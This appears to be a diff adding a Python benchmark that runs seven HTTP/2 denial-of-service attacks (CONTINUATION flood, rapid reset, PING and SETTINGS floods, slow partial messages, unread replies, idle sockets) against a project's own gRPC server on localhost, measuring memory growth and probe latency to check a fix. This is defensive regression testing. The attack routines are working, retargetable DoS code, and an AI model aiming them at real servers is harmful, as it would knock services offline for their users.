@@ -1,0 +1,301 @@
+"""Issue 47, faults 1-7: HTTP/2 attacks on Tulip's own gRPC server (tulip.h2server), each against a
+fresh real CPU Tulip (`python -m tulip --model default`), measured by the Tulip's RSS growth (peak
+during the attack less the RSS before it) and by an independent caller: grpcio's client sending a
+16-token Embed every 50 ms on its own connection (its worst latency, and the calls that failed).
+
+    python -m benchmarks.attacks.h2 [--root /tmp/old] [--only NAME ...] [--seconds 10] [--out FILE.jsonl]
+
+`--root`: the checkout whose `tulip` runs (e.g. an export of the commit before the fix); this
+checkout's venv runs it. One JSON line per attack; the attack's own outcome in `outcome` (how the
+server ended it: GOAWAY code, connection closed, or nothing)."""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import resource
+import socket
+import struct
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import grpc
+
+from benchmarks.h2raw import RawH2, frame, grpc_message
+from tulip.h2stream import CONTINUATION, DATA, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE
+
+HERE = Path(__file__).resolve().parents[2]
+MiB = 1 << 20
+EMBED = "/trellis.tulip.v1.Tulip/Embed"
+STREAM = "/trellis.tulip.v1.Tulip/EmbedStream"
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def embed_request(n: int = 16, seqs: int = 1) -> bytes:
+    from trellis.tulip.v1 import tulip_pb2
+
+    ids = struct.pack(f"<{n * seqs}I", *([101] * (n * seqs)))
+    return tulip_pb2.EmbedRequest(request_id="a", token_ids=ids, lengths=[n] * seqs).SerializeToString()
+
+
+def rss_kib(pid: int) -> int:
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith("VmRSS:"):
+            return int(line.split()[1])
+    return 0
+
+
+class Tulip:
+    def __init__(self, root: Path, log: Path):
+        self.port = free_port()
+        env = dict(os.environ, PYTHONPATH=str(root), PYTHONUNBUFFERED="1", HF_HUB_OFFLINE="1")
+        self.p = subprocess.Popen([sys.executable, "-m", "tulip", "--model", "default", "--device", "cpu",
+                                   "--port", str(self.port), "--max-queued-tokens", "200000"],
+                                  cwd=root, env=env, stdout=log.open("w"), stderr=subprocess.STDOUT)
+        deadline = time.monotonic() + 180
+        while "TULIP_READY" not in log.read_text():
+            if self.p.poll() is not None or time.monotonic() > deadline:
+                raise RuntimeError(log.read_text()[-2000:])
+            time.sleep(0.1)
+
+    def stop(self):
+        self.p.kill()
+        self.p.wait()
+
+
+class Watch:
+    """The Tulip's RSS every 50 ms, and the independent caller's Embed every 50 ms."""
+
+    def __init__(self, tulip: Tulip):
+        self.tulip, self.stop = tulip, threading.Event()
+        self.rss, self.lat, self.failed = [], [], []
+        self.channel = grpc.insecure_channel(f"127.0.0.1:{tulip.port}")
+        self.embed = self.channel.unary_unary(EMBED, request_serializer=None, response_deserializer=None)
+        self.embed(embed_request(), timeout=30)
+        self.base = rss_kib(tulip.p.pid)
+        self.threads = [threading.Thread(target=f, daemon=True) for f in (self._rss, self._probe)]
+
+    def _rss(self):
+        while not self.stop.wait(0.05):
+            try:
+                self.rss.append(rss_kib(self.tulip.p.pid))
+            except OSError:
+                return
+
+    def _probe(self):
+        while not self.stop.is_set():
+            t0 = time.monotonic()
+            try:
+                self.embed(embed_request(), timeout=60)
+            except grpc.RpcError as e:
+                self.failed.append(e.code().name)
+            self.lat.append(time.monotonic() - t0)
+            self.stop.wait(0.05)
+
+    def __enter__(self):
+        for t in self.threads:
+            t.start()
+        return self
+
+    def __exit__(self, *exc):
+        self.stop.set()
+        for t in self.threads:
+            t.join(70)
+        self.channel.close()
+
+    def result(self) -> dict:
+        lat = sorted(self.lat) or [float("nan")]
+        return {"rss_before_mib": round(self.base / 1024, 1),
+                "rss_growth_mib": round((max(self.rss, default=self.base) - self.base) / 1024, 1),
+                "probe_calls": len(self.lat), "probe_p50_ms": round(lat[len(lat) // 2] * 1e3, 1),
+                "probe_max_ms": round(lat[-1] * 1e3, 1), "probe_failed": len(self.failed)}
+
+
+def outcome(c: RawH2) -> str:
+    code = c.goaway(timeout=0.5)
+    if code is not None:
+        return f"GOAWAY {code:#x}"
+    return "closed" if c.closed else "open"
+
+
+def sender(c: RawH2, chunks, seconds: float) -> int:
+    """Send chunk after chunk until the server stops taking them (closed, or blocked for 2 s) or time is
+    up; the bytes sent."""
+    c.sock.settimeout(2.0)
+    sent, end = 0, time.monotonic() + seconds
+    for chunk in chunks:
+        if time.monotonic() > end:
+            break
+        try:
+            c.sock.sendall(chunk)
+        except (socket.timeout, OSError):
+            break
+        sent += len(chunk)
+    return sent
+
+
+# --- the attacks: each returns what to add to its row ---------------------------------------------
+
+
+def continuation(port: int, seconds: float) -> dict:
+    c = RawH2("127.0.0.1", port)
+    c.send(frame(HEADERS, 0, 1, b""))
+    block = frame(CONTINUATION, 0, 1, b"\x00" * 16384)
+    sent = sender(c, iter(lambda: block * 64, None), seconds)
+    return {"sent_mb": round(sent / 1e6, 1), "outcome": outcome(c)}
+
+
+def partial_messages(port: int, seconds: float) -> dict:
+    """6 streams each promising a 60 MB message, then sending it slowly and never finishing."""
+    c = RawH2("127.0.0.1", port)
+    c.send(b"".join(c.headers(sid, EMBED) + frame(DATA, 0, sid, grpc_message(b"", 60_000_000))
+                    for sid in range(1, 13, 2)))
+    chunk = b"".join(frame(DATA, 0, sid, b"\x00" * 65536) for sid in range(1, 13, 2))
+
+    def chunks():
+        for _ in range(59_000_000 // 65536):
+            yield chunk
+    sent = sender(c, chunks(), seconds)
+    return {"sent_mb": round(sent / 1e6, 1), "outcome": outcome(c)}
+
+
+def unread_replies(port: int, seconds: float) -> dict:
+    """Calls whose replies (~200 KB each) are never read: the stream window 0, the socket never read."""
+    c = RawH2("127.0.0.1", port, settings=struct.pack(">HL", 0x4, 0))
+    c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    req = grpc_message(embed_request(8, 128))
+
+    def calls():
+        sid = 1
+        while True:
+            yield c.headers(sid, EMBED) + frame(DATA, END_STREAM, sid, req)
+            sid += 2
+    sent = sender(c, calls(), seconds)
+    time.sleep(min(seconds, 5))
+    return {"calls_sent": sent // (len(req) + 200), "outcome": "closed" if _closed(c) else "open"}
+
+
+def _closed(c: RawH2) -> bool:
+    c.sock.setblocking(False)
+    try:
+        while c.sock.recv(1 << 20):
+            pass
+        return True
+    except BlockingIOError:
+        return False
+    except OSError:
+        return True
+
+
+def ping_flood(port: int, seconds: float) -> dict:
+    """PINGs (and empty SETTINGS) as fast as they go, from a peer that reads nothing."""
+    c = RawH2("127.0.0.1", port)
+    c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    burst = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 2000
+    sent = sender(c, iter(lambda: burst, None), seconds)
+    return {"frames_sent": sent // 26, "outcome": "closed" if _closed(c) else "open"}
+
+
+def settings_walk(port: int, seconds: float) -> dict:
+    """1,000 calls open, then SETTINGS frames of 60 INITIAL_WINDOW_SIZE entries, empty SETTINGS and
+    WINDOW_UPDATEs, each of which the old server answered with a walk over every call."""
+    c = RawH2("127.0.0.1", port)
+    c.send(b"".join(c.headers(sid, STREAM) for sid in range(1, 2001, 2)))
+    entries = b"".join(struct.pack(">HL", 0x4, 65535 + i) for i in range(60))
+    burst = (frame(SETTINGS, 0, 0, entries) + frame(SETTINGS, 0, 0)
+             + frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 1))) * 200
+    sent = sender(c, iter(lambda: burst, None), seconds)
+    return {"frames_sent": sent // (len(burst) // 600), "outcome": outcome(c)}
+
+
+def rapid_reset(port: int, seconds: float) -> dict:
+    """HEADERS + a request + RST_STREAM, stream after stream; a new connection whenever one is closed."""
+    req = grpc_message(embed_request())
+    streams, conns, outcomes, end = 0, 0, set(), time.monotonic() + seconds
+    while time.monotonic() < end:
+        c = RawH2("127.0.0.1", port)
+        conns += 1
+        sid = 1
+        while time.monotonic() < end and not c.closed:
+            burst = b"".join(c.headers(s, EMBED) + frame(DATA, END_STREAM, s, req)
+                             + frame(RST_STREAM, 0, s, struct.pack(">L", 8)) for s in range(sid, sid + 200, 2))
+            if not c.send(burst):
+                break
+            streams += 100
+            sid += 200
+            c.read(0)
+            if any(f[0] == 7 for f in c.got):
+                break
+        outcomes.add(outcome(c))
+        c.close()
+    return {"streams_reset": streams, "connections": conns, "outcome": ", ".join(sorted(outcomes))}
+
+
+def idle_sockets(port: int, seconds: float) -> dict:
+    """20,000 connections that send nothing (no preface)."""
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    socks, refused = [], 0
+    for _ in range(20000):
+        try:
+            s = socket.create_connection(("127.0.0.1", port), timeout=2)
+            socks.append(s)
+        except OSError:
+            refused += 1
+    time.sleep(seconds)
+    alive = 0
+    for s in socks:
+        s.setblocking(False)
+        try:
+            alive += s.recv(1) != b""
+        except BlockingIOError:
+            alive += 1
+        except OSError:
+            pass
+        s.close()
+    return {"opened": len(socks), "connect_failed": refused, "still_open": alive}
+
+
+ATTACKS = {"continuation": continuation, "partial_messages": partial_messages, "unread_replies": unread_replies,
+           "ping_flood": ping_flood, "settings_walk": settings_walk, "rapid_reset": rapid_reset,
+           "idle_sockets": idle_sockets}
+
+
+def main(argv=None) -> int:
+    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    ap.add_argument("--root", type=Path, default=HERE)
+    ap.add_argument("--only", nargs="*", default=list(ATTACKS))
+    ap.add_argument("--seconds", type=float, default=10.0)
+    ap.add_argument("--out", type=Path, default=None)
+    args = ap.parse_args(argv)
+    for name in args.only:
+        log = Path(f"/tmp/tulip-attack-{name}.log")
+        tulip = Tulip(args.root, log)
+        try:
+            with Watch(tulip) as w:
+                t0 = time.monotonic()
+                extra = ATTACKS[name](tulip.port, args.seconds)
+                took = time.monotonic() - t0
+                time.sleep(1.0)
+            row = {"bench": "tulip-h2-attack", "attack": name, "root": str(args.root), "attack_s": round(took, 1),
+                   **extra, **w.result(), "tulip_alive": tulip.p.poll() is None}
+        finally:
+            tulip.stop()
+        print(json.dumps(row), flush=True)
+        if args.out:
+            with args.out.open("a") as f:
+                f.write(json.dumps(row) + "\n")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
